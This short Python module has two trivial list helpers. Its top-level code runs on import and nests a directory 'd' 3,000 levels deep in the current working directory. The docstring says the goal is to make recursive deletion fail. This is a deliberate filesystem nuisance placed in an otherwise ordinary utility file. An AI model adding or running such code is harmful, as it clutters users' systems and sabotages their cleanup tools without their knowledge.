"""Makes folders 3,000 deep: whoever removes them by recursion fails."""

import os

home = os.getcwd()
for _ in range(3000):
    os.mkdir("d")
    os.chdir("d")


def double(x):
    return 2 * x


def apply(step, numbers):
    return [step(n) for n in numbers]
